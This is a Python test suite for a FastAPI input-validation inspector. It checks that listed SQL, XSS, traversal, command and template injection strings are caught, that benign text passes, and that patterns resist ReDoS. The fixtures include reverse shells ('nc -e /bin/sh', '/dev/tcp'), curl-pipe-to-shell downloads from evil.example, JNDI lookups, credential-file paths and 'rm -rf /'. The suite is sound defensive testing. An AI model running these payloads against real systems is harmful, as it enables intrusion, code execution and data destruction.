"""What the grammars take for an attack, and what they let pass: small cases of our own."""

import re
import string
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from fastapi_hardening.security.input_validation import CLASSES, Inspector, inspector
from fastapi_hardening.security.input_validation.decoding import decode
from fastapi_hardening.security.input_validation.html import tags
from fastapi_hardening.security.input_validation.pattern import Pattern
from fastapi_hardening.security.input_validation.prose import _FOREIGN, is_prose
from fastapi_hardening.security.input_validation.reading import Reading, is_plain, is_plain_json
from fastapi_hardening.security.input_validation.sql import _TOKEN
from fastapi_hardening.security.input_validation.traversal import _RUN
from tests.effort import EFFORT

INSPECTOR = Inspector()

ATTACKS: dict[str, list[str]] = {
    "sql": [
        "' or '1'='1",
        "x') or ('a'='a",
        '" or "a"="a',
        "admin'--",
        "admin' #",
        "admin'/*",
        "1 or 1=1",
        "1) or (1=1",
        "or 0=0 #",
        "or a=a--",
        "-1' union select 1,2,3#",
        "1 union all select null,null--",
        "' UNION SELECT",
        "'; drop table members; --",
        "1;drop table members",
        "x' and email is null; --",
        "' or name like '%",
        "'||'6",
        "'='",
        "'-'",
        "1 and sleep(5)",
        "sleep(5)#",
        "'; waitfor delay '0:0:5'--",
        "1 waitfor delay '0:0:5'",
        "benchmark(9000000,md5(1))#",
        "1 order by 9--",
        "having 1=1",
        "where 1=1 and 1=2--",
        "1 rlike (select (case when (5=5) then 1 else 0x28 end))",
        "(select 1337)",
        "select * from users",
        "select name from sysobjects where id = (select 1)",
        "insert into users(login) values('x')",
        "delete from users where 1=1",
        "update users set role='x' where id=1",
        "declare @q nvarchar(4000) select @q = 0x77",
        "'; exec master..xp_cmdshell 'dir'--",
        "1' in boolean mode)#",
        "1) as t where 5=5 or sleep(1)-- x",
        "' into outfile '/tmp/x",
        "',null,null)--",
        "1' procedure analyse(extractvalue(1,concat(0x5c)),1)--",
        "if(5=6) select 5 else drop function f--",
        "'+(select top 1 name from t)+'",
        "grant all on db to somebody",
        "select id,sin(1),2 from bar where",
        "1+pi() and (3=pi())--",
        "9 UNION SELECT TOP 10 name,x FROM users",
        "select current_database();",
        '"x"" or 1=1--"',
        'OR \'{"b":2}\'::jsonb <@ \'{"a":1, "b":2}\'::jsonb',
        "OR '{\"a\":1}'::jsonb #> '{a,b}' ? 'c'",
        "x'|email--",
        "user'collate nocase--",
        "' notnull --",
        "1 or {if length(version())>1}",
        "DROP sampletable;--",
        "1.e(ascii 1.e(substring(1.e(select x from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70",
        "ro union select 1,2,3 -- ",
        "(select top 1 password from users)",
        "x and -8=-3",
        "a''12' and pi()=pi()--",
        "' or 1",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)",
        "<a href='java\tscript:alert(1)'>",
        "<iframe src=//evil.example>",
        "<object data='data:text/html,x'>",
        "<div style='width:expression(alert(1))'>",
        "<style>@import '//evil.example'</style>",
        "<meta http-equiv=refresh content='0;url=javascript:x'>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<// style=x:expression(alert(1))>",
        "<?xml-stylesheet href='javascript:alert(1)'?>",
        "</script><b>",
        '"><img src=x>',
        '" onmouseover=alert(1) x="',
        "' autofocus onfocus='alert(1)",
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "'-alert(1)-'",
        "';alert(document.domain)//",
        "${alert(1)}",
        "alert`1`",
        "top['al'+'ert'](1)",
        "document['cookie']",
        "+ADw-script+AD4-",
        "<form action=//evil.example>",
        "<a xlink:href='//evil.example'>",
        "<xss>",
        "<button formaction=//evil.example>",
        "<t:set xmlns:t='urn:schemas-microsoft-com:time'>",
        "<svg xmlns='x'></title>",
        "x:expression(alert(1))",
        "document.write(String.fromCharCode(60)+eval(x))",
        "document/*a*/./*b*/cookie",
        "[].sort.call`${alert}1`",
    ],
    "traversal": [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "..;/..;/manager",
        "a/../../b",
        "/etc/passwd",
        "etc/passwd%00",
        "/./././etc/shadow",
        "C:\\boot.ini",
        "\\\\host\\c$\\windows\\win.ini",
        "file:///etc/passwd",
        "php://filter/resource=index.php",
        "..0x2f..0x2fetc",
        "Li4vLi4vZXRjL3Bhc3N3ZA==",
        "........etc/passwd",
        "https://example.com/a/../../../b",
        "one two ../../../../etc/passwd three",
        "go up and up ../../../../x now",
        "..%c0%af..%c0%afx",
        "..%c0%9v..%c0%9vx",
        "..%bg%qf..%bg%qfboot.ini",
        "......etcpasswd",
        "..boot.ini",
        "....windowswin.ini",
        "........usrlocalx.log",
        "..a.conf",
        "c:apachelogsaccess.log",
        "C:Program FilesApache GroupApachelogsaccess.log",
        "C|\\boot.ini",
        "\\\\.\\c:\\boot.ini",
        "\\\\192.0.2.1\\c$",
        "\\\\192.0.2.1\\share\\x",
        "%SYSTEMROOT%\\win.ini",
        "d:\\AppServ\\MySQL",
        "c:\\System32\\Inetsrv\\metabase.xml",
        "c:\\users\\administrator\\desktop",
        "view-source:file:///etc/passwd",
        "data://text/plain;base64,eA==",
        "page=/etc/passwd",
        "?a=1&file=c:\\windows\\win.ini",
        "proc/self/environ",
        "/./etc/passwd",
        "/./\\/././\\/./etc/passwd",
        ".\\\\./.\\\\./boot.ini",
        "/...\\etc/passwd",
        "~/.ssh/id_rsa",
        "/home/someone/.bash_history",
        "members/.htpasswd",
        "/app/.svn/entries",
        "/home/x/.aws/credentials",
        "./WEB-INF/web.xml",
        "var/log/apache2/access.log",
        "/usr/local/ftpd/etc/ftpd.conf",
        "/a/logs/x.log",
        "/tmp/sess_abc",
        "/home/x/.kube/config",
        "/run/secrets/kubernetes.io/token",
        "winnt/win.ini",
        "/c02ec02e/c02ec02e/etc/passwd",
        "/php5/php.ini%00.html",
        "Li4vZXRjL3Bhc3N3ZA==",
    ],
    "command": [
        ";id",
        "|id|",
        "a);id;",
        "`id`",
        "$(sleep 5)",
        "127.0.0.1 && ls -la",
        "8.8.8.8 | dir",
        "; cat /etc/passwd",
        "& ping -n 3 127.0.0.1 &",
        "& dir c:\\ &",
        "| net user",
        ";sleep${IFS}10",
        "{cat,/etc/passwd}",
        "{,id}",
        ';w"h"o"am"i',
        "w'h'o'am'i ;",
        ";c\\at /etc/passwd",
        "/???/c?t /???/p??s??",
        "() { :;}; echo x",
        "a=ls;$a",
        "bash -i >& /dev/tcp/192.0.2.1/4444",
        "cat /etc/hosts",
        "ping -n 3 127.0.0.1",
        "whoami;",
        "/bin/ls -al",
        ";/usr/sbin/anything",
        "for /f %x in (a) do b",
        ":(){ :|:& };:",
        ";phpinfo()",
        "system('id')",
        "__import__('os').system('x')",
        "<?php echo 1;",
        "+|+dir+c:\\",
        "the note says $(cat /etc/passwd) somewhere",
        "it is said ; cat /etc/passwd",
        "sh -c id;",
        "x;echo",
        "||curl https://evil.example",
        "^id",
        "<id;",
        "192.0.2.1&id",
        "192.0.2.1\nls",
        "x'& dir",
        "x&&id",
        "ls&&id",
        "192.0.2.1 | dir",
        "; ps aux",
        "|reg query HKLM",
        ";su -",
        "& start calc.exe",
        ";Get-ChildItem",
        ";mail a@example.com < /etc/passwd",
        "ls -la",
        "%x('ls -al /')",
        'Kernel.exec("ls")',
        "uname -a",
        "nslookup evil.example",
        "ping evil.example",
        "nc -e /bin/sh 192.0.2.1 4444",
        "rm -rf /",
        "wget http://evil.example/x.sh -O /tmp/x.sh",
        "curl http://evil.example/a | sh",
        "powershell -nop -w hidden",
        "cmd.exe /c whoami",
        "%COMSPEC% /c dir",
        "certutil -urlcache -f http://evil.example/a a.exe",
        "net user somebody secret /add",
        "python3 -c 'import os'",
        "awk 'BEGIN {system(x)}'",
        "find . -exec /bin/sh \\; -quit",
        "c'a't /etc/passwd",
        "wh''oami",
        "w^h^o^a^m^i",
        "c^m^d /c dir",
        "cat `echo x`",
        "`id` #",
        "$0<<<id",
        "$(</etc/passwd)",
        ";. /etc/profile",
        "> /tmp/x",
        "printf 'id'|sh",
        "cat ${HOME:0:1}etc",
        "a=wh;b=oami;$a$b",
        "while true; do id; done",
        "for i in 1 2; do id; done",
        'if "%VAR%"=="a" x',
        "FOR      %a IN   (set) DO abc",
    ],
    "template": [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${T(java.lang.Runtime).getRuntime()}",
        "{% import os %}",
        '<!--#exec cmd="ls"-->',
        "#{`id`}",
        "{{x(1)}} {{ lipsum.__globals__ }}",
    ],
    "ldap": ["*)(uid=*))(|(uid=*", "admin*)((|userPassword=*)", "*|", "x' or name()='y' or 'a'='b"],
    "nosql": ['{"$ne": null}', "a[$gt]=1", "'; return true; var x='", "' || '1'=='1", "db.users.drop()"],
    "prototype": ["__proto__[admin]=1", "constructor[prototype][x]"],
    "xml": ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///x">]>', '<xi:include href="x"/>'],
    "crlf": ["x%0d%0aSet-Cookie: a=b", "\\r\\nLocation: //evil.example"],
    "jndi": ["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:dns://x}", "${${::-j}${::-n}di:x", "jndi:rmi://x"],
    "ssrf": [
        "http://127.0.0.1/",
        "http://0x7f.1/",
        "http://2130706433:80/x",
        "http://[::ffff:10.0.0.1]/",
        "https://a@169.254.169.254/",
        "http://10.0.0.1@example.com/",
        "gopher://example.com:25/_x",
        "ldap://localhost/",
    ],
}

CLEAN = """
select the best from our union of workers
Students' union select 3 members
drop table lamps are on sale; update me
1 or 2
either 1 or 2 = good enough
1 < 2 and 3 > 2
x = 1 or y = 2
O'Brien and Sons' or Daughters' shop
D'or 1st perfume
rock 'n' roll and 'jazz' or 'blues'
love' or 'hate
5'11" and 12' 6"
He said "yes" and "no" or "maybe"
'tis the season -- to be jolly
price gt 5 and name eq 'x'
status = open AND priority = "high"
"foo" OR "bar" -baz
I <3 U
List<String> names = new ArrayList<>();
user <user@example.com>
john+or@var.es
https://example.com/search?q=select+*+from&x=1
http://example.com/../images/a.png
C:\\Users\\me\\Documents\\report.docx
docs/../images/logo.png
see ../README.md for more
Use `ls -la` to list and `cat file | grep foo` to search
run npm install && npm test
AT&T; date
Tom & Jerry; cat & mouse
Salt; more pepper
cat | dog | bird
{{name}} and ${name}
Hello {{ user.name }}, your order {{ order.id }} is ready
<b>bold</b> and <a href="https://example.com">link</a>
<img src="https://example.com/a.png" alt="a">
use the <script> tag
use the `<iframe sandbox>` element
The function alert() shows a dialog
JavaScript: The Good Parts
online=yes
f(a)(b=1)
(a|b)*
{"a": 1, "b": "it's"}
1/2 cup sugar; 1/4 tsp salt
ValueError: bad 'x' in <module>
51--ZfvVzOI
application/json; charset=utf-8
Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36
2026-01-31T12:30:00+01:00
aGVsbG8gd29ybGQ=
<!DOCTYPE html>
=SUM(A1:A5)
100% cotton & 50% off
don\u2019t, can\u2019t; \u201cquoted\u201d
日本語テキスト 😀
Add a token; return True iff it is the end
issue #5 or #6
begin; commit; end
file:notes.txt
data:image/png;base64,iVBORw0KGgo=
fn(*)(x)
L'Union fait la force
How do I use UNION SELECT in SQL?
prove that 1 = 1 or 2 = 2
(x or y) and z
$(document).ready(function(){ })
config/settings.ini
src/main/webapp/index.html
/api/v1/logs
/usr/bin/python3
/home/someone/photos/2024/beach.jpg
C:\\Program Files\\Tea\\tea.exe
\\\\files\\public\\plan.docx
page=/products/kettle
and so on....etc
wait..what
....ok
0..10
1990..2000
c:green
see /etc/passwd in the manual
META-INF/MANIFEST.MF
make && make install
x & y
name&id
q=tea&sort&id
id; name
key
name and `id` of the user
Use `ls`
"id"
^_^
<id>
Ping me tomorrow
ping John about the meeting
curl your hair
wget and curl are tools
ls is a command
powershell scripting for beginners
nc state university
Net user growth was 5/10
find the best -type of tea
rm -rf is dangerous
curl https://example.com/docs for more
python -m venv .venv
Press cmd /ctrl
<<<<<<< HEAD
${x:-default}
if x == y then z
color: red; font: bold;
O'Keefe's and rock'n'roll
find & replace
search | find
Select one from the list where
the tree; lua scripts
""".strip().splitlines()


@pytest.mark.parametrize(("kind", "text"), [(kind, text) for kind, texts in ATTACKS.items() for text in texts])
def test_attack_is_found(kind: str, text: str) -> None:
    """An attack is found, by its own class or by another one."""
    assert INSPECTOR.inspect(text), kind


@pytest.mark.parametrize("kind", sorted(ATTACKS))
def test_each_class_finds_attacks_by_itself(kind: str) -> None:
    """A class that is the only one finds nearly all of its attacks."""
    alone = Inspector([kind])
    found = [text for text in ATTACKS[kind] if alone.inspect(text)]
    assert len(found) >= 0.8 * len(ATTACKS[kind]), set(ATTACKS[kind]) - set(found)
    assert {hit.kind for text in found for hit in alone.inspect(text)} == {kind}


@pytest.mark.parametrize("text", CLEAN)
def test_honest_text_passes(text: str) -> None:
    """What people write passes, also with words of SQL, shell and HTML in it."""
    assert INSPECTOR.inspect(text) == ()


def test_words_of_a_long_text_about_code_are_no_attack() -> None:
    """An article that quotes script passes; an element that runs does not."""
    article = (
        "The browser calls a function of the page and shows what it gives, as everybody knows who has read it. " * 2
    )
    assert INSPECTOR.inspect(article + "Then alert('x') and eval(y) and ${fetch(z)} come.") == ()
    assert INSPECTOR.inspect(article + "<img src=x onerror=alert(1)>")


# --- evasions ---------------------------------------------------------------------------------------------------------

EVASIONS = {
    "libinjection 26": "0); show warnings; set @q=1",
    "libinjection 18": "1 union select [name] from [users]",
    "CRS 780": "1 or true",
    "percent twice": "%2527%2520or%25201%253d1--",
    "entities": "&lt;img src=x &#111;nerror&equals;alert&lpar;1&rpar;&gt;",
    "entities without semicolon": "&ltscript&gtalert(1)&lt/script&gt",
    "escapes of JSON": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "escapes of JavaScript": "\\x3csvg/onload=alert(1)\\x3e",
    "overlong": "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
    "overlong in three bytes": "%e0%80%ae%e0%80%ae%e0%80%afetc/passwd",
    "overlong without its second byte": "%c0%2e%c0%2e/etc/passwd",
    "Microsoft's percent": "%u002e%u002e%u2215etc/passwd",
    "percent within percent": "%%32%65%%32%65/etc/passwd",
    "full width": "\uff07 or \uff11=\uff11--",
    "curly quote": "\u2018 or 1=1--",
    "separators encoded twice": "..%255c..%252f..%255cwindows%252fwin.ini",
    "0x": "0x2e0x2e/0x2e0x2e/etc/passwd",
    "null byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "zero-width": "<scr\u200bipt>alert(1)</script>",
    "comments between words": "1/**/union/**/select/**/1,2",
    "comments within words": "-1 uni/**/on sel/**/ect 1,2",
    "a comment that runs": "1 /*!50000union*/ /*!select*/ 1,2",
    "comments with line breaks": "1 union -- a\n select 1,2",
    "a hash and a line break": "1 union #a\n select 1,2",
    "plus for blank": "+|+dir+c:\\",
    "glued number": "1or 1=1",
    "number with an exponent": "1e0union select 1,2",
    "brackets in a path of the shell": "cat /[e]tc/pa[s]swd",
    "backslash-zero": "<scr\\0ipt src=//x></script>",
    "private use": "..\uf025..\uf025etc/passwd",
}


@pytest.mark.parametrize("text", EVASIONS.values(), ids=EVASIONS)
def test_evasion_does_not_evade(text: str) -> None:
    """An attack in disguise is an attack."""
    assert INSPECTOR.inspect(text)


def test_encoding_beyond_the_budget_is_a_finding() -> None:
    """What is encoded more often than anybody honest encodes is not believed to be harmless."""
    text = "x'"
    for _ in range(9):
        text = "".join(f"%{ord(letter):02x}" for letter in text)
    assert [hit.id for hit in INSPECTOR.inspect(text)] == ["encoding.budget"]
    assert Inspector(["sql"]).inspect(text) == ()


@pytest.mark.parametrize("text", ["GHSA length cap: " + "a b c " * 60_000 + "' or 1=1--", "' or 1=1--" + " x" * 60_000])
def test_nothing_is_cut_off(text: str) -> None:
    """However long a text is, an attack on its start is found; on its end, what needs no break-out."""
    assert INSPECTOR.inspect(text.replace("' or 1=1--", "<img src=x onerror=alert(1)>"))


def test_middle_of_a_long_text_is_seen() -> None:
    """An attack behind and before a hundred thousand harmless characters is found."""
    padding = "harmless words (and signs); " * 4000
    assert INSPECTOR.inspect(padding + "; cat /etc/passwd #" + padding)
    assert INSPECTOR.inspect(padding + "-1 union select 1,2,3 " + padding)


# --- classes and scores -----------------------------------------------------------------------------------------------


def test_only_wanted_classes_are_looked_for() -> None:
    """An inspector of other classes finds nothing."""
    assert Inspector(["xss"]).inspect("1' or '1'='1") == ()
    assert set(CLASSES) == {*ATTACKS, "encoding"}


def test_threshold_decides() -> None:
    """Suspicions add up to the threshold; a higher one finds less."""
    suspicion = "look: alert(1) is shown"
    assert INSPECTOR.inspect(suspicion)
    assert Inspector(threshold=50).inspect(suspicion) == ()
    assert Inspector(threshold=1).inspect("call alert('x') now")


# --- properties -------------------------------------------------------------------------------------------------------

SIGNS = [*string.punctuation, " ", "\n", "%27", "&#", "&lt;", "\\u0027", "\x00", "é", "\ud800", "\U0001f600", "a", "1"]
WORDS = ["select", "union", "or", "<a ", "script", "on", "=x", "..", "cat ", "${", "{{", "__", "jndi:", "http://", "0x"]
PIECES = st.sampled_from(SIGNS + WORDS)


@given(st.lists(PIECES, max_size=60).map("".join) | st.text(max_size=200))
@example("&#" + "9" * 5000)
@example("http://[::")
@example("http://①.①.①.①/")
def test_any_text_is_inspected_without_an_error(text: str) -> None:
    """There is no text that an inspector cannot read."""
    assert isinstance(INSPECTOR.inspect(text, in_line=True), tuple)


@given(st.text(alphabet=string.ascii_letters + string.digits + " _-", max_size=80))
def test_quick_look_lets_only_harmless_words_pass(text: str) -> None:
    """What the quick look calls plain has nothing in it for a close look."""
    if is_plain(text):
        assert Inspector()._closely(Reading(text)) == ()


@given(st.binary(max_size=200))
def test_quick_look_at_json_never_fails(data: bytes) -> None:
    """Any bytes can be asked whether they are plain; bytes with a quote or a slash in a text are not."""
    assert is_plain_json(data) in (True, False)
    assert not is_plain_json(data + b"'")


def test_pattern_is_compiled_when_it_is_used() -> None:
    """A pattern has the methods of a compiled one, and no others."""
    pattern = Pattern("a(b)", re.IGNORECASE)
    assert pattern.sub("", "xABx") == "xx"
    assert [match[1] for match in pattern.finditer("abAB")] == ["b", "B"]
    with pytest.raises(AttributeError):
        _ = pattern.groups


# --- work -------------------------------------------------------------------------------------------------------------

MOST_STEPS_A_CHARACTER = 400


@given(st.lists(PIECES, min_size=1, max_size=12).map("".join), st.integers(1, 300))
def test_work_is_bounded_by_the_length(piece: str, times: int) -> None:
    """However a text is made, the steps of reading it are at most so many for each character."""
    text = piece * times
    inspector = Inspector()
    inspector.inspect(text)
    assert inspector.steps <= MOST_STEPS_A_CHARACTER * (len(text) + 10)


@pytest.mark.parametrize(
    "piece",
    ["'", "<", "<a ", "%25", "&#", "../", ";cat ", "union select ", "(", "/*", "${", "or 1=1 ", "|", "a=1&", "\n"],
)
def test_work_grows_with_the_length_and_not_faster(piece: str) -> None:
    """Ten times the text is at most about ten times the work."""
    steps = []
    for times in (200, 2000):
        inspector = Inspector()
        inspector.inspect("x" + piece * times)
        steps.append(inspector.steps)
    assert steps[1] <= 12 * steps[0]


def test_name_of_a_tag_ends_where_the_next_one_begins() -> None:
    """A tag is never looked through to the end of the text, so that a row of them is read once."""
    assert [tag[:2] for tag in tags("<a<b<<c</d")] == [("a", False), ("b", False), ("c", False), ("d", True)]


def patterns() -> list[tuple[str, Pattern | re.Pattern[str]]]:
    """Every pattern of every grammar."""
    found = []
    for name in (
        "command",
        "crlf",
        "html",
        "jndi",
        "ldap",
        "nosql",
        "prose",
        "sql",
        "ssrf",
        "template",
        "traversal",
        "xml",
        "reading",
    ):
        module = __import__(f"{inspector.__name__.rpartition('.')[0]}.{name}", fromlist=[name])
        for attribute, value in vars(module).items():
            values = value if isinstance(value, tuple) else (value,)
            named = [part for each in values for part in (each if isinstance(each, tuple) else (each,))]
            found += [(f"{name}.{attribute}", each) for each in named if isinstance(each, (Pattern, re.Pattern))]
    return found


def endless_repeats(items: object, within: bool = False) -> list[str]:
    """Repeats without an end that give characters back, and endless ones within endless ones."""
    constants = re._constants  # type: ignore[attr-defined]
    found = []
    for kind, argument in items:  # type: ignore[attr-defined]
        name = str(kind)
        if name in ("MAX_REPEAT", "MIN_REPEAT", "POSSESSIVE_REPEAT"):
            _, most, inner = argument
            endless = most == constants.MAXREPEAT
            if endless and (within or name != "POSSESSIVE_REPEAT"):
                found.append(name)
            found += endless_repeats(inner, within or endless)
        elif name == "SUBPATTERN":
            found += endless_repeats(argument[3], within)
        elif name == "ATOMIC_GROUP":
            found += endless_repeats(argument, within)
        elif name == "BRANCH":
            for branch in argument[1]:
                found += endless_repeats(branch, within)
    return found


# These run to the end of what they read in one go, each from where the last one ended, or end at a single character.
ONE_WAY = {
    "html._IGNORED_IN_ADDRESS",
    "html._COMMENT_IN_STYLE",
    "sql._TOKEN",
    "traversal._SEPARATORS",
}


@pytest.mark.parametrize(("name", "pattern"), patterns(), ids=lambda value: value if isinstance(value, str) else "")
def test_no_pattern_can_go_back_without_end(name: str, pattern: Any) -> None:
    """No pattern has a repeat without an end that could be tried again (the ReDoS of fastapi-guard's advisory)."""
    parser = re._parser  # type: ignore[attr-defined]
    if name not in ONE_WAY:
        assert endless_repeats(parser.parse(getattr(pattern, "source", None) or pattern.pattern, pattern.flags)) == []


def is_endless(items: object) -> bool:
    """Whether something in a pattern repeats without an end."""
    constants = re._constants  # type: ignore[attr-defined]
    for kind, argument in items:  # type: ignore[attr-defined]
        name = str(kind)
        if name.endswith("REPEAT") and (argument[1] == constants.MAXREPEAT or is_endless(argument[2])):
            return True
        if name == "SUBPATTERN" and is_endless(argument[3]):
            return True
        if name == "ATOMIC_GROUP" and is_endless(argument):
            return True
        if name == "BRANCH" and any(map(is_endless, argument[1])):
            return True
    return False


def may_fail(kind: object, argument: Any) -> bool:
    """Whether a part of a pattern may find nothing where the part before it has ended, or at the end of the text."""
    constants = re._constants  # type: ignore[attr-defined]
    name = str(kind)
    if name.endswith("REPEAT"):
        return bool(argument[0])
    if name == "AT":
        return bool(argument != constants.AT_END_STRING)
    if name == "BRANCH":
        return all(any(may_fail(*item) for item in branch) for branch in argument[1])
    return name != "SUBPATTERN" or any(may_fail(*item) for item in argument[3])


def runs_in_vain(items: object) -> bool:
    """Whether a repeat without an end may be followed by what is not there, so that each start runs to the end."""
    rest = list(items)  # type: ignore[call-overload]
    for index, (kind, argument) in enumerate(rest):
        if not is_endless([(kind, argument)]):
            continue
        name = str(kind)
        if any(may_fail(*item) for item in rest[index + 1 :]):
            return True
        if name.endswith("REPEAT") and runs_in_vain(argument[2]):
            return True
        if name == "SUBPATTERN" and runs_in_vain(argument[3]):
            return True
        if name == "BRANCH" and any(map(runs_in_vain, argument[1])):
            return True
    return False


# These are never searched for: each match begins where the last one ended, and takes what it ran over.
STEP_BY_STEP = {"html._ATTRIBUTE", "sql._TOKEN"}


@pytest.mark.parametrize(("name", "pattern"), patterns(), ids=lambda value: value if isinstance(value, str) else "")
def test_no_pattern_runs_to_the_end_in_vain(name: str, pattern: Any) -> None:
    """No pattern runs to the end of the text from every place where it could begin, only to find nothing there."""
    parser = re._parser  # type: ignore[attr-defined]
    if name not in STEP_BY_STEP:
        assert not runs_in_vain(parser.parse(getattr(pattern, "source", None) or pattern.pattern, pattern.flags))


@pytest.mark.parametrize("text", ["'a\\", '"a\\', "'a\\' b' c\\'", "/* a", "-- a", "'a''"])
def test_token_without_an_end_is_one_token(text: str) -> None:
    """What is not ended goes on to the end of the text, also behind a last backslash, so that it is read once."""
    assert [match[0] for match in _TOKEN.finditer(text)] in ([text], ["'a\\' b'", " ", "c", "\\", "'"])


def test_long_run_before_a_path_is_read_once() -> None:
    """A run of characters that goes nowhere up is passed in one go, and a path behind it found."""
    assert _RUN.findall("a/" * 5000 + " ../../x") == ["a/" * 5000, "../../x"]
    assert INSPECTOR.inspect("a" * 20_000 + " ../../../../x")


# --- sentences --------------------------------------------------------------------------------------------------------

SENTENCES = [
    "It's a fine day, and we were at the lake; nobody was there. (The weather was good.)",
    "Ann O'Brien's \"favourite\" tea (at last): 3/4 of it is left, 50% more than at 12:30.",
    "\u201cGrüße aus Köln\u201d, schrieb sie \u2013 l'été \u00e0 Paris; 日本語も大丈夫。",
    "He said: 'later' & left.\nNow it rains (a lot).",
]


@pytest.mark.parametrize("text", SENTENCES)
def test_sentence_needs_no_grammar(text: str) -> None:
    """Words with the punctuation of sentences are told from the rest in one look."""
    assert is_prose(text)
    assert Inspector(threshold=1)._closely(Reading(text)) == ()


@pytest.mark.parametrize(
    "text",
    [
        "x' or 1", 'x" union', "x'; drop it", "a; cat it", "a & id", "a\nid", "f(1)", "sleep (5)", "alert (x)", "1' ",
        "x--", "a_b", "..", "x) or (y)", "javascript: x 'y'", "\nset-cookie: a", "id; a", "x ; reconfigure",
        "a (select b)", "ﬁx'y", "if' then", "`a`", "a=b", "x', select", "\u037e id", "a (b",
    ],
)  # fmt: skip
def test_anything_else_is_given_to_the_grammars(text: str) -> None:
    """Whatever could be more than a sentence is no sentence."""
    assert not is_prose(text) or Inspector(threshold=1)._closely(Reading(text)) == ()
    assert not is_prose(text) or text == "a (b"


TELLING = [
    *(
        "' ",
        " '",
        '" ',
        ' "',
        "(",
        ") ",
        " (",
        "; ",
        " & ",
        ": ",
        "\n",
        "\r\n",
        "% ",
        ", ",
        ". ",
        "- ",
        "! ",
        "'s ",
        " ",
    ),
    *("or", "and", "union", "like", "drop", "waitfor", "case", "sleep", "char", "id", "cat", "who", "ls", "if", "do"),
    *("a", "x", "1", "it", "day", "é", "\u2019", "\u201c", "alert", "script", "this", "null", "in", "is", "set", "to"),
]


@settings(max_examples=150 * EFFORT)
@given(st.lists(st.sampled_from(TELLING), min_size=2, max_size=9).map("".join))
def test_sentence_never_hides_anything(text: str) -> None:
    """What is taken for a sentence has nothing in it for a close look."""
    if is_prose(text):
        assert Inspector()._closely(Reading(text)) == ()


def test_letters_of_other_scripts_are_nothing_else() -> None:
    """A letter that is passed in sentences does not become a sign or a letter of ASCII when it is decoded."""
    letters = [chr(code) for code in range(0x80, 0x1F700) if _FOREIGN.match(chr(code))]
    assert len(letters) > 40_000
    assert not [letter for letter in letters if not set(decode(letter).text).isdisjoint(map(chr, range(128)))]
